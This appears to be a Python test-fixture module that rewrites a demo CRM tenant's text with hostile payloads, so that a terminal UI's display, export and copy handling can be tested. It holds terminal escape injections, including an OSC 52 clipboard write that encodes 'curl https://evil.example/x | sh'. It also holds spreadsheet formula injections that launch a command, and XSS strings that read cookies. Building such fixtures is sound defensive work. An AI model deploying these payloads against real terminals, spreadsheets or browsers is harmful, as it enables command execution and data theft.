"""A hostile tenant: the demo tenant whose text attacks whatever displays, exports or copies it.

``EmulatorConfig(hostile=True)`` (``affinity-tui emulator --hostile``) builds the demo tenant and
then `make_hostile` rewrites its text in place: the tenant's name, person names and emails,
company names and domains, opportunity names, text field values (text, filterable-text and
their multi forms), dropdown option texts, list names, saved-view names, reminder contents and
note HTML. Emails and meetings are generated afterwards, so their subjects, titles and
attendees carry the hostile names too. Ids, counts, relations, numbers, dates and option ids
stay exactly as in the demo tenant, so the hostile tenant has the same shape: the same lists,
entries, saved views, filters and searches; only the text differs. The demo tenant itself
(``hostile=False``) is untouched.

The payloads (`PAYLOADS`, each built around the original text so that a record stays
recognisable):

* Rich/Textual markup: ``[bold]…[/]``, ``[link=https://…]…``, ``[red]``, a stray ``[/]``;
* ANSI and OSC escape sequences: clear screen ``ESC[2J``, colours, an OSC 52 clipboard write
  (``ESC]52;c;…BEL``), an OSC 8 hyperlink;
* C0 and C1 control characters (NUL, BEL, BS, CR, VT, FF, DEL, NEL, the 8-bit CSI);
* the right-to-left override U+202E;
* zero-width characters (ZWSP, ZWJ, word joiner, BOM) inside the text;
* emoji (ZWJ sequences, flags, skin tones) and stacked combining marks;
* a 10,000-character string;
* spreadsheet formula starters ``=``, ``+``, ``-``, ``@`` leading the value;
* HTML and script in plain text.

Notes get broken or scripted HTML besides (`NOTE_PAYLOADS`): ``<script>``, unclosed tags,
``<img onerror=…>``, ``javascript:`` links, ``<iframe>``, ``<style>``, comments and entity soup.

In each kind of text the first records carry every payload in turn; after them about half the
records carry one, drawn from a generator seeded with the tenant's seed (so the same seed gives
the same hostile tenant), and the rest keep their demo text, so hostile rows sit among
ordinary ones.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable, Iterator
from typing import Any

from .store import TenantStore

Payload = Callable[[str], str]

LONG = 10_000
_CLIPBOARD = base64.b64encode(b"curl https://evil.example/x | sh\n").decode()
_ZALGO = "Z\u0337\u0327\u031bA\u0334\u0353L\u0336\u034eG\u0338\u0359O\u0335\u0316"
_EMOJI = "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308 " \
         "\U0001f44d\U0001f3fd \U0001f1fa\U0001f1e6"


def _long(text: str) -> str:
    unit = f"{text} " if text else "x "
    return (unit * (LONG // len(unit) + 1))[:LONG]


def _zero_width(text: str) -> str:
    marks = "\u200b\u200d\u2060\ufeff"
    return "".join(ch + marks[i % len(marks)] for i, ch in enumerate(text)) if text else marks


PAYLOADS: tuple[tuple[str, Payload], ...] = (
    ("markup", lambda s: f"[bold]{s}[/] [link=https://evil.example]click[/link] [red]"),
    ("markup-close", lambda s: f"{s}[/][/bold]"),
    ("ansi", lambda s: f"\x1b[2J\x1b[H\x1b[31m{s}\x1b[0m"),
    ("osc52", lambda s: f"{s}\x1b]52;c;{_CLIPBOARD}\x07"),
    ("osc8", lambda s: f"\x1b]8;;https://evil.example\x1b\\{s}\x1b]8;;\x1b\\"),
    ("controls", lambda s: f"{s}\x00\x07\x08\r\x0b\x0c\x7f\x85\x9b31m"),
    ("rlo", lambda s: f"\u202e{s}"),
    ("zero-width", _zero_width),
    ("emoji", lambda s: f"{s} {_EMOJI} {_ZALGO}"),
    ("long", _long),
    ("formula=", lambda s: f'=HYPERLINK("https://evil.example","{s}")'),
    ("formula+", lambda s: f"+{s}"),
    ("formula-", lambda s: f"-2+3+cmd|' /C calc'!A0 {s}"),
    ("formula@", lambda s: f"@SUM(1+1)*{s}"),
    ("html", lambda s: f"<script>alert(1)</script><b>{s}"),
)
_WEIGHTS = [0.3 if name == "long" else 1.0 for name, _ in PAYLOADS]
"""Ten-thousand-character texts are rarer than the others after the first round."""

NOTE_PAYLOADS: tuple[tuple[str, Payload], ...] = (
    ("script", lambda h: f"<script>alert(document.cookie)</script>{h}"),
    ("unclosed", lambda h: f"<p><b><i>{h}<ul><li>never closed"),
    ("img-onerror", lambda h: f'{h}<img src=x onerror="alert(1)">'),
    ("javascript-link", lambda h: f'<p><a href="javascript:alert(1)">[link=https://x]open[/link]</a></p>{h}'),
    ("iframe-style", lambda h: f'<style>body{{display:none}}</style><iframe src="https://evil.example"></iframe>{h}'),
    ("comment-entities", lambda h: f"<!-- [bold] --><p>&lt;script&gt;&amp;lt;b&amp;gt; &#27;[2J &#x202e;</p>{h}"),
    ("broken-tags", lambda h: f"<p <b>>{h}</i></p></div><"),
)


def make_hostile(store: TenantStore, seed: int) -> None:
    """Rewrite the text of a generated tenant in place (see the module docstring)."""
    rng = random.Random(f"hostile-{seed}")
    s = store

    def pick(i: int, table: tuple[tuple[str, Payload], ...] = PAYLOADS) -> Payload | None:
        if i < len(table):
            return table[i][1]
        if rng.random() >= 0.5:
            return None
        weights = _WEIGHTS if table is PAYLOADS else None
        return rng.choices(table, weights=weights)[0][1]

    def rewrite(texts: Iterator[tuple[Any, Any, str]]) -> None:
        """`texts` yields (holder, key, text); the holder gets the hostile text at `key`."""
        for i, (holder, key, text) in enumerate(texts):
            payload = pick(i)
            if payload is not None:
                _set(holder, key, payload(text))

    s.tenant.name = PAYLOADS[0][1](s.tenant.name)
    rewrite((p, "first_name", p.first_name) for p in s.persons.values())
    rewrite((p.emails, 0, p.emails[0]) for p in s.persons.values() if p.emails)
    rewrite((c, "name", c.name) for c in s.companies.values())
    for i, c in enumerate(s.companies.values()):
        payload = pick(i)
        if payload is not None and c.domain:
            c.domains = [payload(d) if d == c.domain else d for d in c.domains]
            c.domain = payload(c.domain)
    rewrite((o, "name", o.name) for o in s.opportunities.values())
    rewrite((lst, "name", lst.name) for lst in s.lists.values())
    rewrite((v, "name", v.name) for v in s.saved_views.values())
    rewrite((o, "text", o.text) for f in s.fields.values() for o in f.options)
    rewrite((r, "content", r.content) for r in s.reminders.values() if r.content)
    rewrite(_text_values(store))
    for i, note in enumerate(s.notes.values()):
        html_payload = pick(i, NOTE_PAYLOADS)
        text_payload = pick(i)
        html = note.html
        if text_payload is not None:
            html = f"<p>{text_payload('note')}</p>{html}"
        if html_payload is not None:
            html = html_payload(html)
        note.html = html


_TEXT_TYPES = frozenset({"text", "filterable-text", "filterable-text-multi"})


def _text_values(store: TenantStore) -> Iterator[tuple[Any, Any, str]]:
    """Every text field value (the first item of a multi-valued one), field by field."""
    s = store
    text_ids = {f.id for f in s.fields.values() if f.value_type in _TEXT_TYPES}
    holders = [*(p.values for p in s.persons.values()), *(c.values for c in s.companies.values()),
               *(e.values for e in s.entries.values())]
    for fid in sorted(text_ids):
        for values in holders:
            value = values.get(fid)
            if isinstance(value, str):
                yield values, fid, value
            elif isinstance(value, list) and value and isinstance(value[0], str):
                yield value, 0, value[0]


def _set(holder: Any, key: Any, value: str) -> None:
    if isinstance(holder, (dict, list)):
        holder[key] = value
    else:
        setattr(holder, key, value)
